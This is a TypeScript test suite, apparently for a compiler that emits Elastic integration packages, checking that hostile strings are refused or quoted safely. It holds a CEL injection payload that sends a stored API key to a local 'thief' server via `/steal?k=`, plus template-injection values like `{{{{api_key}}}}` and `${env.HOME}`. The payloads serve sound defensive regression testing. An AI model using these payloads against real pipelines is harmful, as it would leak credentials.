/**
 * The Elastic injection suite (issue 7): every string position of the grammar
 * (./positions.ts) × the hostile corpus (./corpus.ts: `CORE_HOSTILE` in CI, `HOSTILE_STRINGS`
 * with `MAPC_FUZZ_FULL=1`), compiled by `compileSource` and the Elastic backend. Each case must
 * end one of two ways:
 *
 * - **refused**: an error diagnostic on the line of the literal holding the text; or
 * - **carried**: the package, read by the real tools, holds the text exactly where it lands and
 *   nothing else changed, judged against the same map with a plain marker text at that position:
 *   - `cel.yml.hbs`, rendered as Fleet renders it (../engines/mito/fleet.ts: Handlebars with
 *     Fleet's helpers, Fleet's quote rewriting, `yaml` and js-yaml agreeing) with secrets set:
 *     the configuration equals the marker's with the text in place of the marker, names no
 *     Elastic Agent `${...}` variable, and its CEL program equals the marker's program with each
 *     string literal holding the marker re-quoted with the text (comment lines compared as
 *     comments); every such program compiles on mito (batched);
 *   - the YAML files: identical under js-yaml and `yaml`, equal to the marker's with the text in
 *     place; the package passes the package-spec validator (batched);
 *   - the ingest pipeline: where the text lands in the mapping, the pipeline runs on OpenSearch
 *     2.19 on records that reach the text, and gives exactly the reference interpreter's documents
 *     and ids; elsewhere it equals the marker's pipeline (the description holding the text as prose);
 *   - `docs/README.md`: markdown-it reads the same block structure as the marker's, with no HTML
 *     or link tokens.
 *
 * The reproductions of issue 7 are asserted on their own at the end.
 */
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { isDeepStrictEqual } from 'node:util';
import yaml from 'js-yaml';
import MarkdownIt from 'markdown-it';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { compileSource } from '../../compiler/compile.ts';
import type { IntegrationIR } from '../../compiler/ir.ts';
import { defaultSettings, mapRecord } from '../../compiler/interpret/index.ts';
import type { Diagnostic } from '../../dsl/diagnostics.ts';
import { canonicalHeader } from '../../targets/elastic/cel/program.ts';
import { elasticBackend } from '../../targets/elastic/index.ts';
import { celString } from '../../targets/elastic/quote.ts';
import { commentText } from '../../targets/shared/prose.ts';
import { CelAgent } from '../engines/mito/agent.ts';
import { compileError, evalOnce } from '../engines/mito/mito.ts';
import { agentVariables, renderConfig } from '../engines/mito/fleet.ts';
import { toOpenSearch } from '../engines/opensearch/dialect.ts';
import type { OpenSearchNode } from '../engines/opensearch/node.ts';
import { sharedOpenSearch } from '../engines/opensearch/shared.ts';
import { runToolAsync } from '../support/tools.ts';
import { CORE_HOSTILE, HOSTILE_STRINGS } from './corpus.ts';
import { POSITIONS, placeAt, streamOf, type Position } from './positions.ts';

const FULL = process.env['MAPC_FUZZ_FULL'] === '1';
const CORPUS: readonly string[] = FULL ? HOSTILE_STRINGS : CORE_HOSTILE;
/** Plain text accepted in every unconstrained position, and left as is by every quoting. */
const MARK = 'Mapcmark';
/** Fleet variables: settings, and secrets whose values must only ever appear where the marker's do. */
const VARS: Record<string, unknown> = {
  // The base URL setting `base_url` is the Fleet variable `url` (targets/elastic/vars.ts).
  url: 'https://api.example.com',
  region: 'eu',
  backfill_start: '2024-01-01T00:00:00Z',
  client_id: 'CLIENT-ID',
  api_key: 'SECRET-API-KEY',
  client_secret: 'SECRET-CLIENT-SECRET',
  tags: ['forwarded'],
};
/** Positions whose text reaches the ingest pipeline's processors (not only its description). */
const MAPPING = new Set([
  'table.key',
  'table.value',
  'table.default',
  'table.list.value',
  'rule.source.segment',
  'rule.select.key',
  'rule.select.literal',
  'rule.select.rest',
  'rule.elements.name',
  'rule.destination.segment',
  'rule.constant',
  'rule.condition.literal',
  'rule.condition.in',
  'rule.condition.prefix',
  'rule.condition.suffix',
  'rule.condition.contains',
  'rule.date.pattern',
  'rule.split.separator',
  'rule.kv.field_separator',
  'rule.kv.value_separator',
  'rule.extract.pattern',
  'map.id.segment',
  'map.remove.segment',
  'map.remove_when.segment',
  'map.remove_when.literal',
  'map.id_raw.segment',
  'cursor.segment',
]);

type Files = ReadonlyMap<string, string>;
interface Compiled {
  readonly ir?: IntegrationIR;
  readonly files?: Files;
  readonly errors: readonly Diagnostic[];
}

function compile(map: string): Compiled {
  const result = compileSource(map, 'hostile.map');
  const errors = result.diagnostics.filter((d) => d.severity === 'error');
  if (errors.length > 0 || !result.ir) return { errors };
  const out = elasticBackend.emit(result.ir, {});
  const emitErrors = out.diagnostics.filter((d) => d.severity === 'error');
  if (emitErrors.length > 0) return { ir: result.ir, errors: emitErrors };
  return { ir: result.ir, files: new Map(out.files.map((f) => [f.path, f.content])), errors: [] };
}

const markerText = (p: Position): string => (p.kind === 'constrained' || p.kind === 'pattern' ? p.benign : MARK);

/** Every string of `value` with the marker replaced by the text (and the marker lowercased by the lowercased text). */
function substitute(value: unknown, mark: string, text: string, whole: boolean): unknown {
  if (typeof value === 'string') {
    if (whole) return value === mark ? text : value;
    return value.replaceAll(mark, () => text).replaceAll(mark.toLowerCase(), () => text.toLowerCase());
  }
  if (Array.isArray(value)) return value.map((v) => substitute(v, mark, text, whole));
  if (typeof value === 'object' && value !== null) {
    return Object.fromEntries(
      Object.entries(value).map(([k, v]) => [
        substitute(k, mark, text, whole) as string,
        substitute(v, mark, text, whole),
      ]),
    );
  }
  return value;
}

/**
 * What each reader made of each text, by reader and text, for the position under test (cleared
 * before each position). The readers below are pure functions of the text, and a hostile package
 * repeats most of the marker's files byte for byte (every file is read at a constrained position),
 * so each distinct text is read once: a repeated text gives the same value, or throws the same
 * error, as its first reading. Callers only read the values.
 */
const readings = new Map<string, { value: unknown } | { error: unknown }>();

function readOnce<T>(reader: string, text: string, read: () => T): T {
  const key = `${reader}\u0000${text}`;
  let reading = readings.get(key);
  if (!reading) {
    try {
      reading = { value: read() };
    } catch (error) {
      reading = { error };
    }
    readings.set(key, reading);
  }
  if ('error' in reading) throw reading.error;
  return reading.value as T;
}

/** Parses YAML with `yaml` and js-yaml; a difference between them is a failure. */
function readYaml(text: string, what: string, failures: string[]): unknown {
  const { value, agree } = readOnce('yaml', text, () => {
    const a = parseYaml(text, { uniqueKeys: false }) as unknown;
    return { value: a, agree: isDeepStrictEqual(a, yaml.load(text)) };
  });
  if (!agree) failures.push(`${what}: yaml and js-yaml read it differently`);
  return value;
}

/** The rendered Fleet configuration of a `cel.yml.hbs` text (../engines/mito/fleet.ts), with {@link VARS}. */
const renderedConfig = (template: string): Record<string, unknown> =>
  readOnce('config', template, () => renderConfig(template, VARS));

/** A CEL string literal token's value (the marker programs hold ASCII literals only). */
function decodeCel(literal: string): string {
  return literal.slice(1, -1).replace(/\\(x[0-9A-Fa-f]{2}|u[0-9A-Fa-f]{4}|U[0-9A-Fa-f]{8}|.)/g, (_m, e: string) => {
    if (e.length > 1) return String.fromCodePoint(Number.parseInt(e.slice(1), 16));
    return { n: '\n', r: '\r', t: '\t' }[e] ?? e;
  });
}

/** Comment lines reduced to their indentation and `//`: their text is prose, their place is code. */
const commentsBlanked = (program: string): string => program.replace(/^(\s*)\/\/.*$/gm, '$1//');

/**
 * The program the text should give: each literal holding the marker, re-quoted with the text
 * (comment lines blanked), and the values those literals must have.
 */
/**
 * `value` with the marker replaced by `text`; in an error message's request label (`GET url: ...`),
 * the URL ends at its first `?`, as `requestLabel` writes it (targets/elastic/cel/failure.ts: a
 * query string may hold a page token, so no error event carries it).
 */
function labelled(value: string, text: string): string {
  const mark = value.indexOf(MARK);
  if (!/^(GET|POST) /.test(value) || value.lastIndexOf(': ', mark) >= 0) return value.replaceAll(MARK, () => text);
  const end = value.indexOf(': ', mark);
  const label = value.slice(0, end < 0 ? value.length : end).replaceAll(MARK, () => text);
  const query = label.indexOf('?');
  return (query < 0 ? label : label.slice(0, query)) + (end < 0 ? '' : value.slice(end).replaceAll(MARK, () => text));
}

function predictProgram(marker: string, position: string, text: string): { program: string; values: string[] } {
  const replacement = position.startsWith('rate_limit.') ? canonicalHeader(text) : text;
  const values: string[] = [];
  let program = commentsBlanked(marker).replace(/"(?:[^"\\]|\\.)*"/g, (literal) => {
    const value = decodeCel(literal);
    if (!value.includes(MARK)) return literal;
    const wanted = labelled(value, replacement);
    values.push(wanted);
    return celString(wanted);
  });
  // A `?` in the URL text makes the query string start with `&` (targets/elastic/cel/request.ts).
  if (position === 'request.url' && text.includes('?')) program = program.replaceAll(': "?" + q)', ': "&" + q)');
  return { program, values };
}

/** Block structure and inline token kinds of a README. */
function markdownShape(md: InstanceType<typeof MarkdownIt>, text: string): { blocks: string[]; inline: Set<string> } {
  return readOnce('markdown', text, () => {
    const tokens = md.parse(text, {});
    const inline = new Set<string>();
    for (const t of tokens) for (const c of t.children ?? []) inline.add(c.type);
    return { blocks: tokens.map((t) => `${t.type}:${t.tag}:${t.nesting}`), inline };
  });
}

/** Records of the position's stream (`streamOf`) that reach the text of a mapping position (and one that misses it). */
function records(position: string, text: string): Record<string, unknown>[] {
  const key = (name: string, benign: string): string => (position === name ? text : benign);
  if (streamOf(position) === 'logins') {
    // `id raw meta."«map.id_raw.segment»"`: a string id, an integer id, and no id.
    const login = (id: unknown) => ({
      time: '2024-05-06T07:08:09Z',
      meta: { [key('map.id_raw.segment', 'login-id')]: id },
    });
    return [login('vendor-id-1'), login(42), login(true)];
  }
  const base = (kind: string, status: string): Record<string, unknown> => ({
    [key('cursor.segment', 'created-at')]: '2024-05-06T07:08:09.123456Z',
    kind,
    [key('rule.source.segment', 'actor-name')]: 'alice',
    note: 'n1',
    status,
    day: '06/05/2024',
    [key('map.id.segment', 'event-id')]: 'e1',
    [key('map.remove.segment', 'internal-note')]: 'removed',
    [key('map.remove_when.segment', 'draft-note')]: 'removed when status is ok',
    extra: { nested: [1, 'two'] },
    // `targets[KEY == LITERAL].REST`: an element that misses, then the one the selection reads.
    targets: [
      'x',
      { [key('rule.select.key', 'target-type')]: 'Other', [key('rule.select.rest', 'target-id')]: 'no' },
      {
        [key('rule.select.key', 'target-type')]: key('rule.select.literal', 'User'),
        [key('rule.select.rest', 'target-id')]: 'picked',
      },
    ],
    tags: ['', 'a', 'b', '', 'c', ''].join(key('rule.split.separator', ',')),
    // Pairs on the separators as placed: a repeated key, a value holding the value separator.
    pairs: kvPairs(key('rule.kv.field_separator', ';'), key('rule.kv.value_separator', ':')),
  });
  const condition = position.startsWith('rule.condition.') || position === 'map.remove_when.literal';
  const hit = base(position === 'table.key' ? text : 'LOGIN', condition ? text : 'ok');
  return [hit, base('NOT-A-KEY', 'not-ok')];
}

/** `a V 1 F b V x V y F a V 2`: parsed by the `kv` rule whatever (allowed) separators are placed. */
export function kvPairs(fs: string, vs: string): string {
  return [`a${vs}1`, `b${vs}x${vs}y`, `a${vs}2`].join(fs);
}

interface Job {
  readonly what: string;
  readonly ir: IntegrationIR;
  /** The stream whose pipeline this is. */
  readonly stream: string;
  readonly pipeline: Record<string, unknown>;
  readonly records: readonly Record<string, unknown>[];
}

let node: OpenSearchNode;
// Packages for the validator are many small files: a memory file system when there is one.
const workDir = mkdtempSync(join(existsSync('/dev/shm') ? '/dev/shm' : tmpdir(), 'mapc-injection-elastic-'));
/** Every how many corpus strings a package goes through the package-spec validator (all of them with MAPC_FUZZ_FULL). */
const VALIDATE_EVERY = FULL ? 40 : 12;
beforeAll(async () => {
  node = await sharedOpenSearch();
});
afterAll(async () => {
  rmSync(workDir, { recursive: true, force: true });
});

/** Figures printed at the end (and checked: every case is accounted for). */
const FIGURES = { cases: 0, refused: 0, carried: 0, literals: 0, programs: 0, pipelines: 0, packages: 0 };
/** Whole hostile programs compiled on mito per position (the first ones of the corpus, issue reproductions among them). */
const PROGRAMS_PER_POSITION = FULL ? 20 : 3;

/** `_simulate` requests in flight at once: the node answers one while the next is sent and read. */
const PIPELINES_IN_FLIGHT = 4;

/** Runs each job's pipeline on OpenSearch ({@link PIPELINES_IN_FLIGHT} at a time); failures in job order. */
async function runPipelines(jobs: readonly Job[], failures: string[]): Promise<void> {
  const found: string[][] = jobs.map(() => []);
  let next = 0;
  const lane = async (): Promise<void> => {
    for (let i = next++; i < jobs.length; i = next++) await runPipeline(jobs[i]!, found[i]!);
  };
  await Promise.all(Array.from({ length: PIPELINES_IN_FLIGHT }, lane));
  failures.push(...found.flat());
}

async function runPipeline(job: Job, failures: string[]): Promise<void> {
  const processors = toOpenSearch(job.pipeline['processors'] as never);
  const onFailure = toOpenSearch(job.pipeline['on_failure'] as never);
  const stream = job.ir.streams.find((s) => s.name === job.stream)!;
  const { status, json } = await node.request('POST', '/_ingest/pipeline/_simulate', {
    pipeline: { processors, on_failure: onFailure },
    docs: job.records.map((r) => ({ _source: { message: JSON.stringify(r) } })),
  });
  FIGURES.pipelines++;
  if (status !== 200) {
    failures.push(`${job.what}: OpenSearch refused the pipeline: ${JSON.stringify(json).slice(0, 300)}`);
    return;
  }
  const docs = (json as { docs: { doc?: { _id: string; _source: Record<string, unknown> }; error?: unknown }[] }).docs;
  job.records.forEach((record, i) => {
    const expected = mapRecord(stream, JSON.stringify(record), defaultSettings(job.ir));
    const got = docs[i];
    // `_simulate` reports the placeholder `_id` "_id" when the pipeline set none (an `id raw`
    // record without a usable id), as test/agreement/engines.ts reads it.
    const id = got?.doc?._id === '_id' ? undefined : got?.doc?._id;
    const actual = got?.doc ? { id, doc: got.doc._source } : { error: got?.error };
    const want = { id: expected.id, doc: expected.doc };
    if (!isDeepStrictEqual(actual, want)) {
      failures.push(
        `${job.what} record ${i}: OpenSearch ${JSON.stringify(actual).slice(0, 400)} ≠ interpreter ${JSON.stringify(want).slice(0, 400)}`,
      );
    }
  });
}

/**
 * cel-go refuses an expression over 100,000 code points ("expression code point size exceeds
 * limit": cel-go v0.25.0, the version mito pins in scripts/go-tools/mito/go.mod, `parser.ExpressionSizeCodePointLimit` default); literal lists are cut below it.
 */
const MITO_EXPRESSION_LIMIT = 90_000;

/** `cases` cut into runs whose literals add up to at most `limit` code points (a longer one alone). */
function chunks(cases: readonly [string, string][], limit: number): [string, string][][] {
  const out: [string, string][][] = [];
  let run: [string, string][] = [];
  let size = 0;
  for (const c of cases) {
    const n = [...c[0]].length + 2;
    if (run.length > 0 && size + n > limit) {
      out.push(run);
      run = [];
      size = 0;
    }
    run.push(c);
    size += n;
  }
  if (run.length > 0) out.push(run);
  return out;
}

/**
 * mito evaluates every string literal the text gave the programs (one CEL list per position) to
 * the value the prediction says; with the programs equal to the prediction, this is the text
 * read back exactly where it lands. A few whole programs per position also go through mito's
 * compiler (a whole program is slow to type-check: seconds each on a loaded machine).
 */
async function checkOnMito(
  position: string,
  literals: ReadonlyMap<string, string>,
  programs: readonly { what: string; text: string }[],
  failures: string[],
): Promise<void> {
  const cases = [...literals.entries()];
  for (const chunk of chunks(cases, MITO_EXPRESSION_LIMIT)) {
    const result = await evalOnce(`[\n${chunk.map(([literal]) => literal).join(',\n')}\n]`, {});
    FIGURES.literals += chunk.length;
    if (!result.ok) failures.push(`${position}: mito does not evaluate the literals: ${result.error.slice(0, 300)}`);
    else {
      const values = result.value as unknown as string[];
      chunk.forEach(([literal, value], i) => {
        if (values[i] !== value) failures.push(`${position}: mito reads ${literal} as ${JSON.stringify(values[i])}`);
      });
    }
  }
  for (const p of programs.slice(0, PROGRAMS_PER_POSITION)) {
    FIGURES.programs++;
    const error = await compileError(p.text);
    if (error !== undefined) failures.push(`${p.what}: mito does not compile the program: ${error.slice(0, 300)}`);
  }
}

/**
 * Runs the package-spec validator on the packages (in batches); resolves to the failures. It runs
 * beside the position's mito and OpenSearch checks.
 */
async function validatePackages(dirs: readonly { what: string; dir: string }[]): Promise<string[]> {
  const BATCH = 150;
  const failures: string[] = [];
  for (let i = 0; i < dirs.length; i += BATCH) {
    const batch = dirs.slice(i, i + BATCH);
    FIGURES.packages += batch.length;
    const run = await runToolAsync(
      'package-spec-validate',
      batch.map((d) => d.dir),
      { timeoutMs: 300_000 },
    );
    if (run.status === 0) continue;
    for (const line of run.stderr.split('\n').filter(Boolean)) {
      const d = batch.find((x) => line.startsWith(`${x.dir}:`));
      failures.push(`${d?.what ?? '?'}: package-spec: ${line.slice(0, 300)}`);
    }
  }
  return failures;
}

function writePackage(files: Files, dir: string): void {
  for (const [path, content] of files) {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), content);
  }
}

const md = new MarkdownIt({ html: true });

/** The marker package, read once per position. */
interface Marker {
  readonly files: Files;
  readonly configs: Map<string, Record<string, unknown>>;
  readonly yaml: Map<string, unknown>;
  readonly markdown: Map<string, { blocks: string[]; inline: Set<string> }>;
}

function readMarker(marker: Compiled, failures: string[]): Marker {
  const files = marker.files!;
  const out: Marker = { files, configs: new Map(), yaml: new Map(), markdown: new Map() };
  for (const [path, content] of files) {
    if (path.endsWith('cel.yml.hbs')) out.configs.set(path, renderedConfig(content));
    else if (path.endsWith('.yml')) out.yaml.set(path, readYaml(content, path, failures));
    else if (path.endsWith('.md')) out.markdown.set(path, markdownShape(md, content));
  }
  return out;
}

/**
 * Checks one carried case against the marker; returns the engine work to batch. A file equal to
 * the marker's (the text does not reach it) needs no reading, except the pipeline of a mapping
 * position, which always runs.
 */
function verify(
  position: Position,
  text: string,
  hostile: Compiled,
  marker: Marker,
  failures: string[],
): { programs: { what: string; text: string }[]; literals: string[]; job?: Job } {
  const what = `${position.name} ${JSON.stringify(text).slice(0, 80)}`;
  const unconstrained = position.kind !== 'constrained' && position.kind !== 'pattern';
  const mark = markerText(position);
  const subst = (v: unknown): unknown => substitute(v, mark, text, !unconstrained);
  const files = hostile.files!;
  const markerFiles = marker.files;
  const programs: { what: string; text: string }[] = [];
  const literals: string[] = [];
  let job: Job | undefined;
  if (!isDeepStrictEqual([...files.keys()].sort(), [...markerFiles.keys()].sort())) {
    failures.push(`${what}: the package has other files than the marker's`);
    return { programs, literals };
  }
  for (const [path, content] of files) {
    const markerContent = markerFiles.get(path)!;
    const mappingPipeline =
      MAPPING.has(position.name) &&
      path.endsWith(`/${streamOf(position.name)}/elasticsearch/ingest_pipeline/default.yml`);
    if (content === markerContent && !mappingPipeline && unconstrained) continue;
    if (path.endsWith('cel.yml.hbs')) {
      const config = renderedConfig(content);
      const expectedConfig = marker.configs.get(path)!;
      if (agentVariables(config).length > 0) failures.push(`${what}: ${path} gives the Agent a \${...} variable`);
      const { program, ...options } = config;
      const { program: markerProgram, ...markerOptions } = expectedConfig;
      if (unconstrained ? !isDeepStrictEqual(options, subst(markerOptions)) : !sameShape(options, markerOptions)) {
        failures.push(`${what}: ${path} options ${JSON.stringify(options).slice(0, 300)} differ from the marker's`);
      }
      if (unconstrained) {
        const predicted = predictProgram(String(markerProgram), position.name, text);
        if (commentsBlanked(String(program)) !== predicted.program) {
          failures.push(`${what}: ${path} program differs from the marker's beyond the text's literals`);
        }
        literals.push(...predicted.values);
      }
      if (program !== markerProgram) programs.push({ what: `${what} ${path}`, text: String(program) });
    } else if (path.endsWith('default.yml')) {
      const pipeline = readYaml(content, `${what} ${path}`, failures) as Record<string, unknown>;
      const markerPipeline = marker.yaml.get(path) as Record<string, unknown>;
      const expectedDescription = commentText(String(subst(markerPipeline['description'])), Infinity);
      if (pipeline['description'] !== (unconstrained ? expectedDescription : pipeline['description'])) {
        failures.push(`${what}: ${path} description ${JSON.stringify(pipeline['description'])}`);
      }
      if (mappingPipeline) {
        job = {
          what: `${what} ${path}`,
          ir: hostile.ir!,
          stream: streamOf(position.name),
          pipeline,
          records: records(position.name, text),
        };
      } else if (
        unconstrained &&
        !isDeepStrictEqual({ ...pipeline, description: '' }, { ...markerPipeline, description: '' })
      ) {
        failures.push(`${what}: ${path} processors differ from the marker's`);
      }
    } else if (path.endsWith('.yml')) {
      const value = readYaml(content, `${what} ${path}`, failures);
      const expected = marker.yaml.get(path);
      if (unconstrained ? !isDeepStrictEqual(value, subst(expected)) : !sameShape(value, expected)) {
        failures.push(`${what}: ${path} ${JSON.stringify(value).slice(0, 300)} is not the marker's with the text`);
      }
    } else if (path.endsWith('.md')) {
      const shape = markdownShape(md, content);
      const markerShape = marker.markdown.get(path)!;
      // Text that shows as nothing (blanks, controls) drops its own paragraph, which adds nothing.
      const dropped = markerShape.blocks.join('|').replace(`paragraph_open:p:1|inline::0|paragraph_close:p:-1|`, '');
      const blank = /^[\s\p{Cc}\p{Cf}\u2028\u2029]*$/u.test(text);
      if (!isDeepStrictEqual(shape.blocks, markerShape.blocks) && !(blank && shape.blocks.join('|') === dropped)) {
        failures.push(`${what}: ${path} block structure`);
      }
      const extra = [...shape.inline].filter((t) => !markerShape.inline.has(t) && t !== 'text');
      if (extra.length > 0) failures.push(`${what}: ${path} adds inline ${extra.join(', ')}`);
    } else {
      failures.push(`${what}: unexpected file ${path}`);
    }
  }
  return { programs, literals, ...(job ? { job } : {}) };
}

/** Same keys, array lengths and scalar types (for constrained positions, whose marker is their benign text). */
function sameShape(a: unknown, b: unknown): boolean {
  if (Array.isArray(a) && Array.isArray(b)) return a.length === b.length && a.every((x, i) => sameShape(x, b[i]));
  if (typeof a === 'object' && a !== null && typeof b === 'object' && b !== null && !Array.isArray(a)) {
    const ka = Object.keys(a).sort();
    const kb = Object.keys(b).sort();
    return isDeepStrictEqual(ka, kb) && ka.every((k) => sameShape((a as never)[k], (b as never)[k]));
  }
  return typeof a === typeof b;
}

describe(`Elastic injection suite: ${POSITIONS.length} positions × ${CORPUS.length} hostile strings`, () => {
  const failures: string[] = [];

  for (const position of POSITIONS) {
    it(
      `${position.name}: every string is refused at its literal or carried exactly`,
      { timeout: FULL ? 4 * 3600_000 : 600_000 },
      async () => {
        const before = failures.length;
        readings.clear();
        const compiledMarker = compile(placeAt(position.name, markerText(position)).map);
        expect(compiledMarker.errors, `${position.name}: the marker map must compile`).toEqual([]);
        const marker = readMarker(compiledMarker, failures);
        const programs: { what: string; text: string }[] = [];
        const literals = new Map<string, string>();
        const jobs: Job[] = [];
        const packages: { what: string; dir: string }[] = [];
        for (const [i, text] of CORPUS.entries()) {
          FIGURES.cases++;
          const placed = placeAt(position.name, text);
          const hostile = compile(placed.map);
          if (hostile.errors.length > 0) {
            if (hostile.errors.some((d) => d.primary.span.line === placed.line)) FIGURES.refused++;
            else {
              failures.push(
                `${position.name} ${JSON.stringify(text).slice(0, 80)}: refused elsewhere: ${hostile.errors
                  .map((d) => `${d.code}@${d.primary.span.line} ${d.message}`)
                  .join('; ')
                  .slice(0, 300)} (literal on line ${placed.line})`,
              );
            }
            continue;
          }
          FIGURES.carried++;
          let work: ReturnType<typeof verify>;
          try {
            work = verify(position, text, hostile, marker, failures);
          } catch (e) {
            failures.push(
              `${position.name} ${JSON.stringify(text).slice(0, 80)}: unreadable output: ${(e as Error).message}`,
            );
            continue;
          }
          programs.push(...work.programs);
          for (const value of work.literals) literals.set(celString(value), value);
          if (work.job) jobs.push(work.job);
          const validates = position.kind === 'text' || position.kind === 'constrained' || position.kind === 'table';
          if (validates && i % VALIDATE_EVERY === 0) {
            const dir = join(workDir, position.name, String(i), 'hostile');
            writePackage(hostile.files!, dir);
            packages.push({ what: `${position.name} ${JSON.stringify(text).slice(0, 80)}`, dir });
          }
        }
        const unique = [...new Map(programs.map((p) => [p.text, p])).values()];
        const validated = validatePackages(packages);
        await checkOnMito(position.name, literals, unique, failures);
        await runPipelines(jobs, failures);
        failures.push(...(await validated));
        rmSync(join(workDir, position.name), { recursive: true, force: true });
        expect(failures.slice(before)).toEqual([]);
      },
    );
  }

  it('accounts for every case', () => {
    // The figures the README's security section quotes.
    console.log(`Elastic injection suite: ${JSON.stringify(FIGURES)}`);
    expect(FIGURES.cases).toBe(POSITIONS.length * CORPUS.length);
    expect(FIGURES.refused + FIGURES.carried).toBe(FIGURES.cases);
    expect(failures).toEqual([]);
  });
});

describe('the reproductions of issue 7', () => {
  const render = (map: string, stream: string): { config: Record<string, unknown>; text: string } => {
    const compiled = compile(map);
    expect(compiled.errors).toEqual([]);
    const template = compiled.files!.get(`data_stream/${stream}/agent/stream/cel.yml.hbs`)!;
    return { config: renderConfig(template, VARS), text: template };
  };
  /**
   * The rendered config of `stream` with `text` at `position`. Text the checks refuse (a line
   * break in a title, a backslash in a URL: E0123-E0126) goes to the backend anyway, as the
   * marker map's IR with the text in place, so the quoting layer is proven on its own too.
   */
  const renderPlaced = (
    position: string,
    text: string,
    stream: string,
  ): { config: Record<string, unknown>; text: string; refusedBy: string[] } => {
    const checked = compileSource(placeAt(position, text).map, 'hostile.map');
    const refusedBy = checked.diagnostics.filter((d) => d.severity === 'error').map((d) => d.code);
    if (refusedBy.length === 0) return { ...render(placeAt(position, text).map, stream), refusedBy };
    const marker = compileSource(placeAt(position, MARK).map, 'hostile.map');
    const ir = substitute(marker.ir!, MARK, text, false) as IntegrationIR;
    const out = elasticBackend.emit(ir, {});
    expect(out.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    const template = out.files.find((f) => f.path === `data_stream/${stream}/agent/stream/cel.yml.hbs`)!.content;
    return { config: renderConfig(template, VARS), text: template, refusedBy };
  };
  const codeLines = (program: unknown): string[] =>
    String(program)
      .split('\n')
      .filter((l) => !/^\s*\/\//.test(l));

  /** A server on 127.0.0.1 answering every request with `body`, counting requests. */
  async function server(body: string): Promise<{ url: string; hits: string[]; close: () => Promise<void> }> {
    const hits: string[] = [];
    const srv: Server = createServer((req, res) => {
      hits.push(req.url ?? '');
      res.writeHead(200, { 'Content-Type': 'application/json' }).end(body);
    });
    await new Promise<void>((resolve) => srv.listen(0, '127.0.0.1', resolve));
    const address = srv.address();
    const port = typeof address === 'object' && address ? address.port : 0;
    return { url: `http://127.0.0.1:${port}`, hits, close: () => new Promise((r) => srv.close(() => r())) };
  }

  it('the title line break of issue 7 sends nothing to another port when the Agent runs the program', async () => {
    const vendor = await server(
      JSON.stringify({ list: { 'audit-items': [{ 'created-at': '2024-05-06T07:08:09Z' }] } }),
    );
    const thief = await server('{}');
    try {
      const attack = (port: string): string =>
        `L\n    get("${port}/steal?k=" + state.api_key).StatusCode == 0 ? {} : //`;
      // The checks refuse the line break (E0123); the backend alone still keeps it in the comment.
      const placed = renderPlaced('stream.title', attack(thief.url), 'audit');
      expect(placed.refusedBy).toEqual(['E0123']);
      const config = renderConfig(placed.text, { ...VARS, url: vendor.url });
      const report = await new CelAgent(config).periodicRun();
      expect(thief.hits).toEqual([]);
      expect(report.errors).toEqual([]);
      expect(report.published.map((e) => e['message'])).toEqual([
        JSON.stringify({ 'created-at': '2024-05-06T07:08:09Z' }),
      ]);

      // The control: the same line spliced into the program as the unquoted title was, on the same
      // harness, does reach the thief (so the check above can fail).
      const spliced = String(config['program']).replace(
        /^(\/\/ mapc: )[^\n]*/,
        (_m, head: string) => `${head}L\n${attack(thief.url).slice(2)}`,
      );
      await new CelAgent({ ...config, program: spliced }).periodicRun();
      expect(thief.hits.length).toBeGreaterThan(0);
      expect(thief.hits[0]).toContain('/steal?k=SECRET-API-KEY');
    } finally {
      await vendor.close();
      await thief.close();
    }
  });

  it('a line break in a stream title stays inside the `// mapc:` comment', () => {
    const title = 'L\n    get("http://127.0.0.1:9999/steal?k=" + state.api_key).StatusCode == 0 ? {} : //';
    const { config, refusedBy } = renderPlaced('stream.title', title, 'audit');
    expect(refusedBy).toEqual(['E0123']);
    const marker = render(placeAt('stream.title', MARK).map, 'audit');
    expect(codeLines(config['program'])).toEqual(codeLines(marker.config['program']));
    expect(codeLines(config['program']).join('\n')).not.toContain('9999');
  });

  const backslashed = '\\{{{{api_key}}}}';
  for (const position of ['request.query.value', 'stream.title', 'request.url', 'request.header.value']) {
    it(`\`\\\\{{{{api_key}}}}\` in ${position} never renders the secret`, () => {
      const { config } = renderPlaced(position, backslashed, 'audit');
      const program = String(config['program']);
      expect(program).not.toContain('SECRET-API-KEY');
      expect(JSON.stringify(config).split('SECRET-API-KEY').length - 1).toBe(1); // state.api_key only
      if (position !== 'stream.title') expect(program).toContain(celString(backslashed));
    });
  }

  it('`\\\\{{{{api_key}}}}` in a token-exchange body value stays text', () => {
    const { config } = render(placeAt('exchange.body.value', backslashed).map, 'logins');
    expect(String(config['program'])).toContain(`"client": ${celString(backslashed)}`);
    expect(String(config['program'])).not.toContain('SECRET-API-KEY');
    expect(JSON.stringify(config).split('SECRET-API-KEY').length - 1).toBe(1); // state.api_key only
  });

  /** The value of the `scope` form field in the rendered program's token request (a CEL literal). */
  const scopeSent = (config: Record<string, unknown>): string => {
    const literal = /"scope": \[("(?:[^"\\]|\\.)*")\]/.exec(String(config.program));
    expect(literal).not.toBeNull();
    return decodeCel(literal![1]!);
  };

  it('`scopes "read {{api_key}}"` sends the text as the scope, not a secret', () => {
    const { config } = render(placeAt('oauth2.scope', 'read {{api_key}}').map, 'windows');
    expect(scopeSent(config)).toBe('read {{api_key}}');
    expect(JSON.stringify(config)).not.toContain('SECRET-API-KEY');
  });

  it('`${...}` in a scope is sent as text: the program (a CEL literal) gives the Agent no variable', () => {
    const placed = placeAt('oauth2.scope', '${env.HOME}');
    expect(compile(placed.map).errors).toEqual([]);
    const { config } = render(placed.map, 'windows');
    expect(scopeSent(config)).toBe('${env.HOME}');
    expect(agentVariables(config)).toEqual([]);
  });

  it('a constant `{{ctx._id}}` is stored literally by the ingest pipeline', async () => {
    const placed = placeAt('rule.constant', '{{ctx._id}}');
    const compiled = compile(placed.map);
    const pipeline = yaml.load(
      compiled.files!.get('data_stream/audit/elasticsearch/ingest_pipeline/default.yml')!,
    ) as Record<string, unknown>;
    const { json } = await node.request('POST', '/_ingest/pipeline/_simulate', {
      pipeline: {
        processors: toOpenSearch(pipeline['processors'] as never),
        on_failure: toOpenSearch(pipeline['on_failure'] as never),
      },
      docs: [{ _source: { message: JSON.stringify(records('rule.constant', '')[0]) } }],
    });
